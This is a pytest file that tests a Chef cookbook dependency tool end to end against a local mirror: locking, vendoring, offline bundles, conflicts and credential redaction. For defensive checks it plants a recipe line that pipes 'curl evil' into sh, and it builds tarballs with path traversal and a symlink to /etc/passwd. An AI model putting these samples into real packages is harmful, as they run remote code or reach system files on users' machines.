"""Community cookbooks end to end: ``lock`` against a real Supermarket-style mirror on
127.0.0.1, ``bundle`` vendoring the locked cookbooks, ``verify`` passing the result, and the
second bundle working with the server stopped (tests/test_dependencies_mirror.py builds the
mirror)."""

from __future__ import annotations

import json
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli import run_cli
from tests.fixtures_git import GitServer
from tests.test_dependencies_mirror import (
    Mirror,
    Server,
    cookbook_files,
    copy_mirror,
    serve,
    tarball,
)


@pytest.fixture(scope="session")
def supermarket(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serve(tmp_path_factory.mktemp("supermarket")) as server:
        yield server


@pytest.fixture(scope="session")
def shared_mirror(supermarket: Server) -> Mirror:
    """The mirror no test changes."""
    return supermarket.new_mirror()


def make_repo(root: Path, source: str | None, depends: list[str], extra: str = "") -> Path:
    cookbook = root / "cookbooks" / "web"
    (cookbook / "recipes").mkdir(parents=True)
    (cookbook / "metadata.rb").write_text(
        "\n".join(["name 'web'", "version '1.0.0'", *depends]) + "\n"
    )
    (cookbook / "recipes" / "default.rb").write_text("log 'web'\n")
    sources = f'[sources]\ndefault = "{source}"\n' if source else ""
    (root / "cookbook-tool.toml").write_text(f'{sources}[bundle]\nversion = "1.0.0"\n{extra}')
    return root


def env(tmp_path: Path) -> dict[str, str]:
    return {"XDG_CACHE_HOME": str(tmp_path / "cache"), "COOKBOOK_TOOL_SOURCE_TOKEN": ""}


def locked(repo: Path) -> dict[str, str]:
    document = json.loads((repo / "cookbook-tool.lock").read_text())
    return {name: entry["version"] for name, entry in document["cookbooks"].items()}


DIAMOND = ["depends 'firewall', '~> 2.5'", "depends 'mysql'"]
CLOSURE = {"chef-sugar": "4.0.0", "firewall": "2.6.2", "mysql": "8.5.1", "yum": "5.1.0",
           "yum-epel": "4.5.0"}


def test_lock_resolves_a_diamond_and_a_pessimistic_chain(tmp_path: Path, shared_mirror: Mirror):
    repo = make_repo(tmp_path / "repo", shared_mirror.url, DIAMOND)
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 0, result.stderr
    assert locked(repo) == CLOSURE  # ~> 2.5 -> 2.6.2 (not 3.0.0) -> chef-sugar ~> 4.0
    text = (repo / "cookbook-tool.lock").read_text()
    document = json.loads(text)
    assert text == json.dumps(document, sort_keys=True, indent=2) + "\n"  # sorted, reviewable
    entry = document["cookbooks"]["firewall"]
    assert entry["url"] == f"{shared_mirror.url}/api/v1/cookbooks/firewall/versions/2.6.2/download"
    assert entry["source"] == shared_mirror.url and len(entry["sha256"]) == 64
    assert entry["dependencies"] == {"chef-sugar": "~> 4.0"}


def test_bundle_vendors_every_locked_cookbook_and_verify_passes(
    tmp_path: Path, shared_mirror: Mirror
):
    repo = make_repo(tmp_path / "repo", shared_mirror.url, DIAMOND)
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    result = run_cli("bundle", repo, "--format", "json", cwd=tmp_path, env=env(tmp_path))
    assert result.code == 0, result.stderr
    bundle = result.json()["bundle"]
    archive = Path(bundle["path"])
    with tarfile.open(archive) as opened:
        names = set(opened.getnames())
        manifest = json.load(opened.extractfile("cookbooks/.manifest.json"))  # type: ignore[arg-type]
    for name in [*CLOSURE, "web"]:
        assert f"cookbooks/{name}/metadata.rb" in names
    sources = {c["name"]: c.get("source") for c in manifest["cookbooks"]}
    assert sources["web"] is None
    assert sources["yum"] == (
        f"supermarket {shared_mirror.url}/api/v1/cookbooks/yum/versions/5.1.0/download"
    )
    assert {v["name"]: v["version"] for v in bundle["vendored"]} == CLOSURE
    verified = run_cli("verify", archive, cwd=tmp_path)  # no external declared
    assert verified.code == 0, verified.stdout + verified.stderr


def test_release_vendors_the_locked_cookbooks_like_bundle(tmp_path: Path, shared_mirror: Mirror):
    target = tmp_path / "releases"
    repo = make_repo(tmp_path / "repo", shared_mirror.url, DIAMOND,
                     f'[targets.local]\nurl = "{target.as_posix()}"\n')
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    bundled = run_cli("bundle", repo, "--format", "json", "-o", tmp_path / "b", cwd=tmp_path,
                      env=env(tmp_path))
    assert bundled.code == 0, bundled.stderr
    released = run_cli("release", repo, "--format", "json", "--offline", cwd=tmp_path,
                       env=env(tmp_path))
    assert released.code == 0, released.stdout + released.stderr
    archives = list(target.rglob("*.tar.gz"))  # the version's archive and the current copy
    expected = Path(bundled.json()["bundle"]["path"]).read_bytes()
    assert archives and all(a.read_bytes() == expected for a in archives), archives
    assert run_cli("verify", archives[0], cwd=tmp_path).code == 0


def test_second_bundle_offline_gives_the_same_bytes_with_the_server_stopped(tmp_path: Path,
                                                                             shared_mirror: Mirror):
    with _copied_server(tmp_path, shared_mirror) as url:
        repo = make_repo(tmp_path / "repo", url, DIAMOND)
        assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
        first = run_cli("bundle", repo, "--format", "json", cwd=tmp_path, env=env(tmp_path))
        assert first.code == 0, first.stderr
    archive = Path(first.json()["bundle"]["path"])
    before = archive.read_bytes()
    archive.unlink()
    second = run_cli("bundle", repo, "--offline", cwd=tmp_path, env=env(tmp_path))
    assert second.code == 0, second.stderr
    assert archive.read_bytes() == before
    cold = run_cli("bundle", repo, "--offline", "--cache-dir", tmp_path / "empty",
                   cwd=tmp_path, env=env(tmp_path))
    assert cold.code == 3
    assert "--offline: not in the cache" in cold.stderr and "yum 5.1.0" in cold.stderr


class _copied_server:
    """A server of its own over a copy of the mirror, stopped when the block ends."""

    def __init__(self, tmp_path: Path, mirror: Mirror) -> None:
        self._base = tmp_path / "served"
        self._base.mkdir()
        self._mirror = mirror
        self._context = serve(self._base)

    def __enter__(self) -> str:
        server = self._context.__enter__()
        folder = copy_mirror(self._mirror, self._base)
        universe = (folder / "universe").read_text().replace(self._mirror.url,
                                                              f"{server.url}/{folder.name}")
        (folder / "universe").write_text(universe)
        return f"{server.url}/{folder.name}"

    def __exit__(self, *exc: object) -> None:
        self._context.__exit__(None, None, None)


def test_a_conflict_is_one_message_naming_the_chain(tmp_path: Path, shared_mirror: Mirror):
    repo = make_repo(tmp_path / "repo", shared_mirror.url,
                     ["depends 'mysql', '~> 6.1'", "depends 'yum-epel', '>= 4.0'"])
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 1
    message = result.stderr.strip()
    assert len(message.splitlines()) == 1
    assert "mysql 6.1.3 needs yum < 4.0" in message
    assert "yum-epel 4.5.0 needs yum ~> 5.0" in message
    assert not (repo / "cookbook-tool.lock").exists()


def test_a_tampered_tarball_names_both_digests_and_writes_nothing(tmp_path: Path,
                                                                  supermarket: Server):
    mirror = supermarket.new_mirror()
    repo = make_repo(tmp_path / "repo", mirror.url, DIAMOND)
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    files = cookbook_files("firewall", "2.6.2")
    files["recipes/default.rb"] = b"execute 'curl evil | sh'\n"
    mirror.download_path("firewall", "2.6.2").write_bytes(tarball("firewall", files))
    cache = tmp_path / "fresh-cache"
    result = run_cli("bundle", repo, "--cache-dir", cache, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 4
    lock = json.loads((repo / "cookbook-tool.lock").read_text())
    assert "firewall 2.6.2" in result.stderr
    assert lock["cookbooks"]["firewall"]["sha256"] in result.stderr
    assert "content sha256 " in result.stderr
    assert not (repo / "out").exists() or not list((repo / "out").iterdir())
    assert not [p for p in (cache / "cookbooks").glob("firewall-*")]


@pytest.mark.parametrize("member", ["traversal", "link"])
def test_unsafe_tarballs_are_refused(tmp_path: Path, supermarket: Server, member: str):
    mirror = supermarket.new_mirror()
    bad = tarfile.TarInfo("evil/../../escape" if member == "traversal" else "evil/passwd")
    if member == "link":
        bad.type, bad.linkname = tarfile.SYMTYPE, "/etc/passwd"
    files = {"metadata.rb": b"name 'evil'\nversion '1.0.0'\n"}
    mirror.publish("evil", "1.0.0", tarball("evil", files, [bad]), {})
    repo = make_repo(tmp_path / "repo", mirror.url, ["depends 'evil'"])
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 4
    assert "evil 1.0.0" in result.stderr
    assert ("unsafe archive" in result.stderr) if member == "traversal" else (
        "outside" in result.stderr
    )
    assert not (repo / "cookbook-tool.lock").exists()
    assert not list((tmp_path / "cache" / "cookbook-tool" / "cookbooks").glob("evil-*"))


def test_unreachable_host(tmp_path: Path):
    repo = make_repo(tmp_path / "repo", "http://user:s3cret@127.0.0.1:9", ["depends 'apt'"])
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 4
    assert "cannot reach" in result.stderr and "s3cret" not in result.stderr


def test_a_missing_download_is_a_404(tmp_path: Path, supermarket: Server):
    mirror = supermarket.new_mirror()
    mirror.download_path("windows", "7.0.2").unlink()
    repo = make_repo(tmp_path / "repo", mirror.url, ["depends 'windows'"])
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 4
    assert "windows 7.0.2" in result.stderr and "404" in result.stderr


@pytest.mark.parametrize("universe", ["[1, 2]", "{not json", '{"apt": {"1.0.0": 5}}'])
def test_a_malformed_universe(tmp_path: Path, supermarket: Server, universe: str):
    mirror = supermarket.new_mirror(filled=False)
    (mirror.folder / "universe").write_text(universe)
    repo = make_repo(tmp_path / "repo", mirror.url, ["depends 'apt'"])
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 4
    assert "malformed universe" in result.stderr


def test_an_existing_lock_is_honoured_until_update(tmp_path: Path, supermarket: Server):
    mirror = supermarket.new_mirror()
    repo = make_repo(tmp_path / "repo", mirror.url, DIAMOND)
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    newer = cookbook_files("firewall", "2.6.2")
    newer["metadata.rb"] = newer["metadata.rb"].replace(b"2.6.2", b"2.7.0")
    mirror.publish("firewall", "2.7.0", tarball("firewall", newer), {"chef-sugar": "~> 4.0"})
    again = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert again.code == 0 and locked(repo)["firewall"] == "2.6.2"
    updated = run_cli("lock", "--update", "firewall", "--repo", repo, cwd=tmp_path,
                      env=env(tmp_path))
    assert updated.code == 0, updated.stderr
    assert locked(repo) == {**CLOSURE, "firewall": "2.7.0"}
    assert "~ firewall 2.6.2 -> 2.7.0" in updated.stdout


def test_check_and_validate_find_a_stale_lock(tmp_path: Path, shared_mirror: Mirror):
    repo = make_repo(tmp_path / "repo", shared_mirror.url, DIAMOND)
    missing = run_cli("validate", repo, "--format", "json", cwd=tmp_path)
    rules = [f["rule"] for f in missing.json()["findings"]]
    assert rules == ["dependency-lock-missing"], missing.stdout
    assert "cookbook-tool lock" in missing.json()["findings"][0]["message"]
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    assert run_cli("lock", "--check", "--repo", repo, cwd=tmp_path).code == 0
    clean = run_cli("validate", repo, cwd=tmp_path)
    assert clean.code == 0, clean.stdout + clean.stderr
    metadata = repo / "cookbooks" / "web" / "metadata.rb"
    metadata.write_text(metadata.read_text().replace("~> 2.5", "~> 3.0"))
    check = run_cli("lock", "--check", "--repo", repo, cwd=tmp_path)
    assert check.code == 1
    assert "web 1.0.0 needs firewall ~> 3.0, the lock has 2.6.2" in check.stderr
    stale = run_cli("validate", repo, "--format", "json", cwd=tmp_path)
    assert stale.code == 1
    assert [f["rule"] for f in stale.json()["findings"]] == ["dependency-lock-stale"]


def test_explain_lists_vendored_cookbooks_without_a_version(tmp_path: Path,
                                                            shared_mirror: Mirror):
    repo = make_repo(tmp_path / "repo", shared_mirror.url, DIAMOND)
    (repo / "cookbook-tool.toml").write_text(f'[sources]\ndefault = "{shared_mirror.url}"\n')
    assert run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path)).code == 0
    result = run_cli("bundle", repo, "--explain", cwd=tmp_path, env=env(tmp_path))
    assert result.code == 0, result.stderr
    assert "cookbooks-VERSION.tar.gz would hold:" in result.stdout
    assert "vendored from cookbook-tool.lock (5):" in result.stdout
    assert f"firewall 2.6.2  (supermarket {shared_mirror.url}/api" in result.stdout
    assert not (repo / "out").exists()
    without = run_cli("bundle", repo, cwd=tmp_path, env=env(tmp_path))
    assert without.code == 2 and "no bundle version" in without.stderr


def _git(*args: str | Path, cwd: Path) -> str:
    return subprocess.run(["git", *map(str, args)], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout.strip()


def test_a_git_dependency_from_git_daemon(tmp_path: Path, shared_mirror: Mirror,
                                          git_daemon: GitServer):
    remote = git_daemon.new_repo("my_lib")
    work = tmp_path / "my_lib-src"
    (work / "cookbooks" / "my_lib" / "recipes").mkdir(parents=True)
    (work / "cookbooks" / "my_lib" / "metadata.rb").write_text(
        "name 'my_lib'\nversion '1.2.0'\ndepends 'chef-sugar', '~> 3.6'\n")
    (work / "cookbooks" / "my_lib" / "recipes" / "default.rb").write_text("log 'lib'\n")
    _git("init", "-q", "-b", "main", cwd=work)
    _git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty",
         "-m", "x", cwd=work)
    _git("add", ".", cwd=work)
    _git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "lib",
         cwd=work)
    _git("tag", "v1.2.0", cwd=work)
    _git("push", "-q", remote, "main", "v1.2.0", cwd=work)
    commit = _git("rev-parse", "HEAD", cwd=work)
    url = git_daemon.url(remote)
    extra = f'[dependencies]\nmy_lib = {{ git = "{url}", tag = "v1.2.0", rel = "cookbooks/my_lib" }}\n'
    repo = make_repo(tmp_path / "repo", shared_mirror.url, ["depends 'my_lib'"], extra)
    result = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert result.code == 0, result.stderr
    document = json.loads((repo / "cookbook-tool.lock").read_text())
    assert document["cookbooks"]["my_lib"]["commit"] == commit
    assert locked(repo) == {"my_lib": "1.2.0", "chef-sugar": "3.6.0"}
    bundle = run_cli("bundle", repo, "--format", "json", cwd=tmp_path, env=env(tmp_path))
    assert bundle.code == 0, bundle.stderr
    with tarfile.open(bundle.json()["bundle"]["path"]) as opened:
        assert "cookbooks/my_lib/recipes/default.rb" in opened.getnames()
    (repo / "cookbook-tool.lock").unlink()
    (repo / "cookbook-tool.toml").write_text((repo / "cookbook-tool.toml").read_text().replace(
        "v1.2.0", "v9.9.9"))
    bad = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
    assert bad.code == 4 and "has no ref 'v9.9.9'" in bad.stderr


def test_a_private_source_takes_a_token_from_the_environment_and_never_shows_it(
    tmp_path: Path,
):
    token = "tok-5ecr3t-value"
    (tmp_path / "private").mkdir()
    with serve(tmp_path / "private", token=token) as server:
        mirror = server.new_mirror()
        repo = make_repo(tmp_path / "repo", mirror.url, ["depends 'windows'"])
        refused = run_cli("lock", "--repo", repo, cwd=tmp_path, env=env(tmp_path))
        assert refused.code == 4
        assert "refused the credentials (HTTP 401)" in refused.stderr
        allowed = run_cli("lock", "--repo", repo, "--format", "json", cwd=tmp_path,
                          env={**env(tmp_path), "COOKBOOK_TOOL_SOURCE_TOKEN": token})
        assert allowed.code == 0, allowed.stderr
        assert token not in allowed.stdout + allowed.stderr + refused.stderr
        assert token not in (repo / "cookbook-tool.lock").read_text()
